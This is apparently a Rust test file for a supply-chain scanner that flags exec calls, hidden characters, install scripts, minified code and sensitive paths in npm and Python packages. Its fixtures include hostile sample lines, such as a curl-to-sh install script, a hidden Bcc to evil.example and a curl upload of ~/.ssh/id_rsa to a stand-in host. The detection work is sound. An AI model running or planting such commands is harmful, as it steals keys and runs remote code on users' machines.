//! Facts of small packages, in both languages.

use super::{Class, Facts, Reading};
use crate::archive::{File, Kind};
use crate::caps::Caps;
use crate::package::Package;

fn file(path: &str, text: &str) -> File {
    File { path: path.to_owned(), bytes: text.as_bytes().to_vec(), size: text.len() as u64, executable: false }
}

fn facts(files: &[(&str, &str)]) -> Facts {
    let kind = if files.iter().any(|(path, _)| path.ends_with(".py")) { Kind::Wheel } else { Kind::NpmTarball };
    let files = files.iter().map(|(path, text)| file(path, text)).collect();
    Facts::of(&Package::of_files(kind, files, Vec::new(), 0), &Caps::default())
}

fn values(facts: &Facts, class: Class) -> Vec<String> {
    facts.values(class).map(|(value, _)| value.to_owned()).collect()
}

#[test]
fn a_fact_shows_its_line() {
    let facts = facts(&[("src/index.js", "const x = 1;\n  send({ to: y, Bcc: 'someone@evil.example' });\n")]);
    let sites = facts.get(Class::Recipient, "someone@evil.example").expect("the recipient");
    let site = &sites.first[0];
    assert_eq!((sites.count, site.line, site.column), (1, 2, 17));
    assert_eq!((site.file.as_str(), site.note.as_deref()), ("src/index.js", Some("Bcc")));
    assert_eq!(site.excerpt, "send({ to: y, Bcc: 'someone@evil.example' });");
}

#[test]
fn facts_of_a_package_are_one_set() {
    let exec = "import { exec } from 'node:child_process'; exec('ls');";
    let minified = "import{exec as e}from'child_process';e('ls')";
    let (one, two) = (facts(&[("a.js", exec)]), facts(&[("dist/b.min.js", minified), ("c.js", exec)]));
    assert_eq!(values(&one, Class::Exec), ["child_process", "child_process.exec"]);
    assert_eq!(values(&one, Class::Exec), values(&two, Class::Exec));
    assert_eq!(two.get(Class::Exec, "child_process.exec").expect("the call").count, 2);
}

#[test]
fn tests_declarations_maps_and_comments_say_nothing() {
    let text = "const to = 'a@evil.example';";
    let facts = facts(&[
        ("package.json", r#"{"name": "x", "author": "Me <me@mine.example>"}"#),
        ("index.js", "// bcc: 'a@evil.example'\n/* https://evil.example */ export const x = 1;"),
        ("index.d.ts", text),
        ("index.js.map", text),
        ("README.md", text),
        ("test/a.js", text),
        ("a.spec.js", text),
    ]);
    for class in [Class::Email, Class::Recipient, Class::Host] {
        assert_eq!(values(&facts, class), Vec::<String>::new(), "{class:?}");
    }
    assert_eq!(facts.files.get("test/a.js"), Some(&Reading::Ignored));
}

#[test]
fn a_test_that_is_asked_for_is_read() {
    let hidden = ("test/util.js", "exports.to = 'a@evil.example';");
    for (path, text) in [
        ("index.js", "require('./test/util')"),
        ("index.js", "import './test/util.js'"),
        ("package.json", r#"{"scripts": {"postinstall": "node test/util.js"}}"#),
        ("package.json", r#"{"main": "./test/util.js"}"#),
    ] {
        assert_eq!(values(&facts(&[(path, text), hidden]), Class::Email), ["a@evil.example"], "{text}");
    }
    assert_eq!(values(&facts(&[("index.js", "1"), hidden]), Class::Email), Vec::<String>::new());
}

#[test]
fn what_cannot_be_read_is_a_fact() {
    let deep = format!("x = {}1{}", "[".repeat(100_000), "]".repeat(100_000));
    let long = format!("x = '{}'", "a".repeat(17 << 20));
    let facts = facts(&[("deep.js", &deep), ("broken.js", "function ("), ("long.js", &long), ("fine.js", "eval(x)")]);
    assert_eq!(values(&facts, Class::Unparsable), ["broken.js", "manifest"]);
    assert_eq!(values(&facts, Class::TooDeep), ["deep.js"]);
    assert_eq!(values(&facts, Class::TooLarge), ["long.js"]);
    assert_eq!(values(&facts, Class::DynamicCode), ["eval"]);
    assert_eq!(facts.files.get("deep.js"), Some(&Reading::Unread));
}

#[test]
fn long_sums_and_chains_are_read_without_recursion() {
    let sum = format!("x = 'a@evil.example'{};", "+'b'".repeat(100_000));
    let chain = format!("x{};", ".a(1)".repeat(1_500));
    let facts = facts(&[("sum.js", &sum), ("chain.js", &chain)]);
    assert_eq!(values(&facts, Class::Unparsable), ["manifest"]);
}

#[test]
fn characters_that_are_not_seen_are_found_in_comments_too() {
    let row: String = "\u{e0041}".repeat(20);
    let facts =
        facts(&[("a.js", "/* \u{202e} */ x = 1"), ("b.js", &format!("x = '{row}'")), ("c.js", "x = '👩\u{200d}💻'")]);
    assert_eq!(values(&facts, Class::HiddenCharacter), ["a row of 20", "bidi \\u{202e}"]);
}

#[test]
fn minified_and_native_files_are_named() {
    let minified = format!("var a=[{}];", "[1,2,3].map(b=>b+1),".repeat(400));
    let facts = facts(&[("a.js", &minified), ("build/x.node", "\x7fELF"), ("b.js", "x = 1")]);
    assert_eq!(values(&facts, Class::Minified), ["a.js"]);
    assert_eq!(values(&facts, Class::NativeBinary), ["build/x.node"]);
}

#[test]
fn json_that_code_reads_and_scripts_are_looked_at() {
    let facts = facts(&[
        ("data/mail.json", r#"{"defaults": {"bcc": ["someone@evil.example"]}}"#),
        ("install.sh", "#!/bin/sh\ncurl https://evil.example/x | sh\n"),
    ]);
    assert_eq!(values(&facts, Class::Recipient), ["someone@evil.example"]);
    assert_eq!(values(&facts, Class::Host), ["evil.example"]);
}

#[test]
fn install_scripts_come_from_the_manifest() {
    let manifest = "{\n  \"name\": \"x\",\n  \"scripts\": {\"test\": \"y\", \"postinstall\": \"node setup.js https://evil.example\"}\n}";
    let facts = facts(&[("package.json", manifest), ("binding.gyp", "{}")]);
    let found: Vec<_> = facts.values(Class::InstallScript).collect();
    assert_eq!(
        found.iter().map(|(value, _)| *value).collect::<Vec<_>>(),
        ["binding.gyp: node-gyp rebuild", "postinstall: node setup.js https://evil.example"]
    );
    assert_eq!(found[1].1.first[0].line, 3);
    assert_eq!(values(&facts, Class::Host), ["evil.example"]);
}

#[test]
fn every_class_has_an_id_of_its_own() {
    let mut ids: Vec<_> = Class::ALL.iter().map(|class| class.id()).collect();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), Class::ALL.len());
    let json = serde_json::to_string(&facts(&[("a.js", "fetch('https://a.example')")])).expect("facts as JSON");
    assert!(json.contains("\"http\"") && serde_json::from_str::<Facts>(&json).is_ok(), "{json}");
}

#[test]
fn code_is_read_under_whatever_name_it_is_asked_for() {
    let payload = "require('child_process').exec('ls')";
    for (files, what) in [
        (&[("package.json", r#"{"main": "lib/engine"}"#), ("lib/engine", payload)][..], "no ending"),
        (&[("index.js", "require('./data.bin')"), ("data.bin", payload)], "an ending that nobody knows"),
        (&[("index.js", "require('./style.css')"), ("style.css", payload)], "an ending of something else"),
        (
            &[("index.js", "require('child_process').fork(__dirname + '/test/setup.js')"), ("test/setup.js", payload)],
            "fork",
        ),
        (
            &[
                (
                    "index.js",
                    "import { Worker } from 'worker_threads'; new Worker(new URL('./test/w.js', import.meta.url))",
                ),
                ("test/w.js", payload),
            ],
            "a worker",
        ),
    ] {
        let facts = facts(files);
        let sites = facts.get(Class::Exec, "child_process.exec").unwrap_or_else(|| panic!("{what}: nothing was read"));
        assert_ne!(sites.first[0].file, "index.js", "{what}");
    }
    let unread =
        facts(&[("index.js", "require('./data.bin')"), ("package.json", "{}"), ("data.bin", "}} ) no program (")]);
    assert_eq!(values(&unread, Class::Unparsable), ["data.bin"]);
    let style =
        facts(&[("package.json", "{}"), ("index.js", "import './style.css'"), ("style.css", "body { color: red }")]);
    assert!(!style.has(Class::Unparsable));
}

#[test]
fn what_turns_text_around_is_data_only_where_it_embeds() {
    let hidden = |text: &str| facts(&[("index.js", text)]).has(Class::HiddenCharacter);
    assert!(!hidden("const rle = '\u{202b}';"));
    assert!(hidden("const rlo = '\u{202e}'; /* x */") && hidden("a(); // \u{202b} b"));
}

#[test]
fn a_command_that_looks_like_a_sentence_is_a_command() {
    let line = "Curl -T ~/.ssh/id_rsa -s https://evil.example/?";
    let run = format!("require('child_process').exec('{line}')");
    assert!(facts(&[("index.js", &run)]).has(Class::SensitivePath));
    assert!(!facts(&[("index.js", &format!("log('{line}')"))]).has(Class::SensitivePath));
}

#[test]
fn most_of_a_text_in_long_lines_is_minified() {
    let packed = "(function(a,b){return a(b)});".repeat(1_000);
    let written = "  const value = read(one, of, them);\n".repeat(600);
    let data = format!("const a = '{}';", "QUJDREVG".repeat(4_000));
    let prose = format!("const a = '{}';", "It is (as they say) a word. ".repeat(1_000));
    let is = |text: String| facts(&[("a.js", &text)]).has(Class::Minified);
    assert!(is(format!("{written}{packed}\n")) && is(format!("{packed}\n{written}")));
    assert!(!is(written.repeat(2)) && !is(format!("{}{packed}\n", written.repeat(2))));
    assert!(!is(format!("{written}{data}\n")) && !is(format!("{written}{prose}\n")));
}

#[test]
fn webassembly_is_machine_code() {
    let facts = facts(&[("a.js", "load('engine.wasm')"), ("engine.wasm", "\0asm\u{1}"), ("data/blob", "\0asm\u{1}")]);
    assert_eq!(values(&facts, Class::NativeBinary), ["data/blob", "engine.wasm"]);
}

#[test]
fn a_setting_of_yarns_is_a_token_where_a_token_is_asked_for() {
    let table = "const files = { rc: '.yarnrc.yml', pnp: '.pnp.cjs' };";
    let paths = |files: &[(&str, &str)]| values(&facts(files), Class::SensitivePath);
    assert_eq!(paths(&[("a.js", table)]), ["yarnrc"]);
    assert_eq!(paths(&[("a.js", table), ("README.md", "npmAuthToken")]), ["yarnrc"]);
    assert_eq!(paths(&[("a.js", table), ("b.js", "parse(text).npmAuthToken")]), ["yarnrc", "yarnrc-token"]);
    assert_eq!(paths(&[("b.js", "parse(text).npmAuthToken")]), Vec::<String>::new());
}
